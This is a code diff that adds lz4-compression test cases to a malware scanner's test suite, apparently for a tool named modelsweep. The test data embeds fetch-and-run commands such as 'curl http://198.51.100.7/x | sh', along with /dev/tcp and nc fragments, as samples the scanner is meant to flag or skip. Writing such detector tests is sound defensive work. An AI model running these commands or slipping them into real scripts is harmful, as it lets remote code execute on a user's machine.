@@ -5,6 +5,8 @@ from __future__ import annotations
 import base64
 import random
 
+import lz4.frame
+
 from modelsweep.core.report import Verdict
 from tests.scanners.case import Case
 
@@ -77,6 +79,21 @@ CASES = {
         b"\0curl -fsSL https://example.com/install.sh | sh\0(echo > /dev/tcp/db/5432)\0/dev/tcp/x/\0curl x | shasum\0"
         b"nc -z localhost 80\0base64 -d x | sha256sum\0s.connect(('127.0.0.1', 80))\0",
         Verdict.NOT_SCANNED,
+    ),
+    "benign_text_in_lz4": Case(
+        lambda: lz4.frame.compress(b"Never run curl http://198.51.100.7/x | sh as root.\n"),
+        "notes.txt.lz4",
+        Verdict.CLEAN,
+    ),
+    "attack_in_lz4": Case(
+        lambda: lz4.frame.compress(NOISE + b"\0curl http://198.51.100.7/x | sh\0" + NOISE),
+        "m.bin.lz4",
+        Verdict.MALICIOUS,
+    ),
+    "attack_behind_lz4": Case(
+        lambda: lz4.frame.compress(b"text\n" * 9) + NOISE + b"\0curl http://198.51.100.7/x | sh\0",
+        "notes.txt.lz4",
+        Verdict.MALICIOUS,
     ),
     "benign_shebang_of_noise": hidden(b"#!/bin/sh\xff\xfe", Verdict.NOT_SCANNED),
     "benign_words": hidden(b"powershell iex import os exec eval __import__ #!/bin/", Verdict.NOT_SCANNED),
